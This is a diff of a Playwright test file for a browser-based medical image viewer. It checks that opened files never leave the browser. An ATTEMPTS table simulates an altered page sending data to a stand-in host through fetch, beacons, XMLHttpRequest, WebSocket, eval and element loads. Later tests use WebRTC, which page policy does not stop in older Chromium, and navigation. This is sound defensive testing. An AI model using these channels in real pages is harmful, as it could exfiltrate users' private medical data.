@@ -1,5 +1,5 @@
 /**
- * Nothing leaves the browser: not by accident, which every test watches for, and not on purpose either.
+ * Nothing leaves the browser, neither by accident, which every test checks, nor from an altered page.
  */
 import { mkdtempSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -9,13 +9,13 @@ import { Elsewhere } from './elsewhere.ts';
 import { FLAGS } from './playwright.config.ts';
 import { Scope, expect, test } from './page.ts';
 
-// What leaks once has leaked: unlike elsewhere, what fails is not repeated.
+// No retries: a single leak is a failure.
 test.describe.configure({ retries: 0 });
 
-/** Where nobody listens; what counts is that nobody is asked. */
+/** A host that does not exist. No request to it may reach the network. */
 const ELSEWHERE = 'https://elsewhere.invalid/?slice';
 
-test('the watch sees what the worker asks for', async ({ scope, page }) => {
+test('the watch sees the requests of workers', async ({ scope, page }) => {
   const seen: string[] = [];
   page.on('request', (request) => seen.push(new URL(request.url()).pathname));
   await scope.open('?backend=cpu');
@@ -24,15 +24,15 @@ test('the watch sees what the worker asks for', async ({ scope, page }) => {
   }
 });
 
-test('no request at all once the page is ready', async ({ scope, page }) => {
+test('the page sends no request once it is ready', async ({ scope, page }) => {
   const seen: string[] = [];
   page.on('request', (request) => seen.push(request.url()));
   await scope.open('?backend=cpu&workers=3');
-  // Each of the three workers has its own copy of the model.
+  // Each of the three workers fetches the model.
   await expect.poll(() => seen.filter((address) => address.endsWith('weights.safetensors')).length).toBe(3);
-  // So does the page fetch the volume viewer, once it has nothing else to do.
+  // The page fetches the volume viewer when it is idle.
   await expect.poll(() => seen.some((address) => address.endsWith('vendor/niivue.js'))).toBe(true);
-  // What was asked for brings the question what it should be: once of each of them and of the page.
+  // Each worker and the page fetch the list of hashes once.
   await expect.poll(() => seen.filter((address) => address.endsWith('/assets.json')).length).toBe(4);
   await expect.poll(async () => {
     const before = seen.length;
@@ -45,11 +45,11 @@ test('no request at all once the page is ready', async ({ scope, page }) => {
   await scope.download();
   await page.locator('input[name="layout"][value="volume"]').check({ force: true });
   await expect(page.locator('#volume .hint')).toContainText('Voxels are shown as cubes');
-  // Of those addresses nobody is asked: what they name is in the page already.
+  // `blob:` and `data:` URLs cause no network traffic.
   expect(seen.filter((address) => !/^(blob|data):/.test(address))).toEqual([]);
 });
 
-test('nothing is stored of what was opened', async ({ scope, page, context }) => {
+test('opened files are not stored', async ({ scope, page, context }) => {
   await scope.open('?backend=cpu');
   await page.click('#sample');
   await scope.is('done');
@@ -65,13 +65,13 @@ test('nothing is stored of what was opened', async ({ scope, page, context }) =>
       return count;
     }),
   }));
-  // Service workers are off in this test: what they keep is the site alone, which `offline.spec.ts` looks at.
+  // Service workers are off in this test. They store only the site, which `offline.spec.ts` tests.
   expect(stored).toEqual({ local: 0, session: 0, databases: 0, caches: 0, files: 0 });
   expect(await context.cookies()).toEqual([]);
 });
 
-/** What a page, altered to give something away, could try. Each says what came of it. */
-const TRIES: Record<string, { run: (address: string) => Promise<string>; stopped: RegExp }> = {
+/** Ways in which an altered page could send data or run code. Each returns its result. */
+const ATTEMPTS: Record<string, { run: (address: string) => Promise<string>; stopped: RegExp }> = {
   fetch: { run: (address) => fetch(address).then(() => 'answered', () => 'refused'), stopped: /^refused$/ },
   'a beacon': { run: async (address) => String(navigator.sendBeacon(address, 'slice')), stopped: /./ },
   'an XMLHttpRequest': {
@@ -88,7 +88,7 @@ const TRIES: Record<string, { run: (address: string) => Promise<string>; stopped
   'a WebSocket': {
     run: (address) =>
       new Promise((resolve) => {
-        // Nobody answers there in any case: what counts is that the policy says so.
+        // The host never answers, so the test waits for the policy's event.
         addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true });
         try {
           new WebSocket(address.replace('https', 'wss')).onerror = () => setTimeout(() => resolve('asked'), 1000);
@@ -133,7 +133,7 @@ const TRIES: Record<string, { run: (address: string) => Promise<string>; stopped
     },
     stopped: /^TypeError/,
   },
-  // Later, because what the test itself evaluates may.
+  // In a timeout, because the policy does not apply to code that the test evaluates.
   eval: {
     run: () => new Promise((resolve) => setTimeout(() => {
       try {
@@ -181,13 +181,13 @@ const TRIES: Record<string, { run: (address: string) => Promise<string>; stopped
   },
 };
 
-/** Runs in the page: an element that loads something. */
+/** Runs in the page: adds an element that loads a resource. */
 declare function add(tag: string, attributes: Record<string, string>): Promise<string>;
 
-base('a page that is altered to give something away is stopped by its policy', async ({ page }) => {
+base('the policy stops an altered page from sending data', async ({ page }) => {
   const asked: string[] = [];
   const note = (url: string) => url.startsWith('https://elsewhere') && asked.push(url);
-  // A request that the policy stops is announced and fails before it is sent: what counts is what reaches the network.
+  // A blocked request is reported and fails before it is sent. This route sees only what reaches the network.
   await page.context().route('https://elsewhere.invalid/**', (route) => {
     note(route.request().url());
     return route.fulfill({ body: 'leaked', headers: { 'Access-Control-Allow-Origin': '*' } });
@@ -208,23 +208,23 @@ base('a page that is altered to give something away is stopped by its policy', a
         }),
     });
   });
-  for (const [name, { run, stopped }] of Object.entries(TRIES)) {
+  for (const [name, { run, stopped }] of Object.entries(ATTEMPTS)) {
     const result = await page.evaluate(run, ELSEWHERE).catch((error: Error) => error.message.replace(/^page\.evaluate: /, ''));
     expect(result, name).toMatch(stopped);
   }
-  // And the worker, which sees the files.
+  // The worker has the files, so its policy is tested too.
   expect(page.workers()).toHaveLength(1);
   for (const name of ['fetch', 'an XMLHttpRequest', 'a WebSocket', 'eval']) {
-    const { run, stopped } = TRIES[name];
+    const { run, stopped } = ATTEMPTS[name];
     const result = await page.workers()[0].evaluate(run, ELSEWHERE).catch((error: Error) => error.message.replace(/^worker\.evaluate: /, ''));
     expect(result, `${name} in the worker`).toMatch(stopped);
   }
   await page.waitForTimeout(500);
   expect(asked).toEqual([]);
-  expect(page.url(), 'nor has it been led elsewhere').toBe(address);
+  expect(page.url(), 'the page has not navigated').toBe(address);
 });
 
-/** The browser's own record of what it did on the network, below all that a page or a test framework sees. */
+/** Starts a browser that records its network activity, below the level of the page and the test framework. */
 function recorded() {
   const log = join(mkdtempSync(join(tmpdir(), 'glioscope-net-')), 'net.json');
   const launched = chromium.launch({
@@ -234,8 +234,8 @@ function recorded() {
   return { launched, read: () => traffic(readFileSync(log, 'utf8')) };
 }
 
-/** Names that were looked up, sockets that were opened, datagrams that were sent, whoever asked for them. */
-base('over a whole session the browser looks up no name and opens no socket but to the site', async ({ baseURL }) => {
+/** All names looked up, sockets opened and datagrams sent, also those of the browser itself. */
+base('over a whole session the browser looks up no other name and opens sockets only to the site', async ({ baseURL }) => {
   const { launched, read } = recorded();
   const browser = await launched;
   const context = await browser.newContext({ baseURL, acceptDownloads: true, serviceWorkers: 'allow' });
@@ -252,23 +252,23 @@ base('over a whole session the browser looks up no name and opens no socket but 
 
   const site = new URL(baseURL ?? '');
   const { names, peers, datagrams } = read();
-  expect(peers.size, 'the record has the site itself in it').toBeGreaterThan(0);
-  // The browser looks for updates of its own, on nobody's behalf; all that it does for a site it does under its key.
-  // But for one: on every page with a form Chrome asks its maker what such a form's fields may be, by hashes of their names.
+  expect(peers.size, 'the record includes the site').toBeGreaterThan(0);
+  // The browser checks for its own updates. A lookup for a site has the site's key, with one exception: on a page with a form
+  // Chrome sends hashes of the field names to its vendor, for autofill.
   const own = names.filter(({ name, key }) =>
     name === 'content-autofill.googleapis.com' || (/\.(google|googleapis|gvt1)\.com$/.test(name) && !key.includes(site.hostname)));
   const local = names.filter(({ name }) => ['localhost', '127.0.0.1', '[::1]', site.hostname].includes(name));
   expect(names.filter((asked) => !own.includes(asked) && !local.includes(asked)), 'names looked up').toEqual([]);
-  // A test may run on a machine that reaches Google: those addresses belong to the names above.
+  // On a machine that reaches Google, these addresses belong to the names above.
   const port = site.port || '80';
   const expected = ['127.0.0.1', '[::1]'].map((address) => `${address}:${port}`);
-  const strange = [...peers].filter((peer) => !expected.includes(peer));
-  expect(strange.length, `sockets to ${strange.join(', ')}`).toBeLessThanOrEqual(own.length);
-  // As WebRTC sends them, which connects to nobody.
+  const unexpected = [...peers].filter((peer) => !expected.includes(peer));
+  expect(unexpected.length, `sockets to ${unexpected.join(', ')}`).toBeLessThanOrEqual(own.length);
+  // WebRTC sends datagrams without a connection.
   expect([...datagrams], 'datagrams to').toEqual([]);
 });
 
-/** Opens a connection by WebRTC to a server and waits until that has come to something or nothing. */
+/** Opens a WebRTC connection to a server, and waits until all candidates are gathered or the time is over. */
 async function connect(page: Page, server: string, patience = 5000) {
   await page.evaluate(async ([address, most]) => {
     const connection = new RTCPeerConnection({
@@ -284,41 +284,41 @@ async function connect(page: Page, server: string, patience = 5000) {
 
 const ALONE = 'this machine has no address on a network';
 
-base('no policy in a page reaches WebRTC: what an altered page sends by it arrives, but it is in the browser’s record', async ({ baseURL }) => {
-  const there = await Elsewhere.listen();
-  base.skip(!there, ALONE);
-  if (!there) return;
+base('a policy in the page does not stop WebRTC: data of an altered page arrives, and the browser’s record shows it', async ({ baseURL }) => {
+  const listener = await Elsewhere.listen();
+  base.skip(!listener, ALONE);
+  if (!listener) return;
   const { launched, read } = recorded();
   const browser = await launched;
   const page = await browser.newPage({ baseURL });
-  // As from a host that cannot set headers.
+  // Like a host that cannot set headers.
   await page.route(/\/(\?.*)?$/, async (route) => {
     const response = await route.fetch();
     const { 'connection-allowlist': _, ...headers } = response.headers();
     await route.fulfill({ response, headers });
   });
   await new Scope(page).open('?backend=cpu&workers=1');
-  // The worker, which has the files, would have to go by the page.
+  // The worker has the files, but no WebRTC.
   expect(await page.workers()[0].evaluate(() => typeof RTCPeerConnection)).toBe('undefined');
-  // Ended by closing the browser: the server never answers.
-  const connecting = connect(page, there.address, 120_000).catch(() => undefined);
-  // Should a browser learn to stop it by the page's own policy, the more can be promised.
-  await expect.poll(() => there.heard).toEqual(expect.arrayContaining(['udp', 'tcp']));
+  // The server never answers, so closing the browser ends this call.
+  const connecting = connect(page, listener.address, 120_000).catch(() => undefined);
+  // If a future browser stops WebRTC by the page's policy, this fails and the documentation can promise more.
+  await expect.poll(() => listener.heard).toEqual(expect.arrayContaining(['udp', 'tcp']));
   await browser.close();
   await connecting;
-  there.close();
+  listener.close();
   const { datagrams, peers } = read();
-  expect([...datagrams], 'a session that used WebRTC would be found out by its record').toContain(there.address);
-  expect([...peers]).toContain(there.address);
+  expect([...datagrams], 'the record shows WebRTC traffic').toContain(listener.address);
+  expect([...peers]).toContain(listener.address);
 });
 
-/** The Chromium in which Connection-Allowlist was seen to stop WebRTC; 148 was seen not to. */
-const OBEYS = 156;
+/** The oldest Chromium in which Connection-Allowlist was seen to stop WebRTC. In 148 it does not. */
+const ALLOWLIST_VERSION = 156;
 
-base('a host that sends all headers stops WebRTC and being led away as well, and the page works', async ({ page }) => {
-  const there = await Elsewhere.listen();
-  base.skip(!there, ALONE);
-  if (!there) return;
+base('with all headers WebRTC and navigation to another host are blocked, and the page works', async ({ page }) => {
+  const listener = await Elsewhere.listen();
+  base.skip(!listener, ALONE);
+  if (!listener) return;
   expect((await page.request.get('./')).headers()['connection-allowlist']).toBe('(response-origin)');
   const scope = new Scope(page);
   await scope.open('?backend=cpu&workers=1');
@@ -330,20 +330,20 @@ base('a host that sends all headers stops WebRTC and being led away as well, and
   await page.click('[data-command="save-report"]');
   await expect((await opening).locator('h1')).toBeVisible();
   const version = page.context().browser()?.version() ?? '';
-  if (Number.parseInt(version) < OBEYS) {
-    there.close();
-    const reason = `Chromium ${version} does not know Connection-Allowlist; ${OBEYS} does`;
-    console.log(`skipped, though the page works: ${reason}`);
+  if (Number.parseInt(version) < ALLOWLIST_VERSION) {
+    listener.close();
+    const reason = `Chromium ${version} does not support Connection-Allowlist; ${ALLOWLIST_VERSION} does`;
+    console.log(`the page works; the rest is skipped: ${reason}`);
     base.skip(true, reason);
   }
-  await connect(page, there.address);
-  await page.evaluate((address) => location.assign(`http://${address}/?slice`), there.address);
+  await connect(page, listener.address);
+  await page.evaluate((address) => location.assign(`http://${address}/?slice`), listener.address);
   await page.waitForTimeout(1500);
-  there.close();
-  expect(there.heard).toEqual([]);
+  listener.close();
+  expect(listener.heard).toEqual([]);
 });
 
-/** Names with the key of the site that they were looked up for, and addresses; a log that was not closed lacks its end. */
+/** Reads a network log: name lookups with the key of their site, and addresses. A log that was not closed lacks its end. */
 function traffic(text: string) {
   const log = JSON.parse(/\]\s*\}\s*$/.test(text) ? text : `${text.trim().replace(/,$/, '')}]}`);
   const types: Record<string, number> = log.constants.logEventTypes;
@@ -357,7 +357,7 @@ function traffic(text: string) {
       names.push({ name, key: String(params.network_anonymization_key ?? '') });
     }
     if (/^(TCP_CONNECT_ATTEMPT|UDP_CONNECT|UDP_BYTES_SENT)$/.test(kind) && params.address) peers.add(String(params.address));
-    // A socket that is connected names its peer only then.
+    // A connected socket has its address only in UDP_CONNECT.
     if (kind === 'UDP_BYTES_SENT' && params.address) datagrams.add(String(params.address));
   }
   return { names, peers, datagrams };
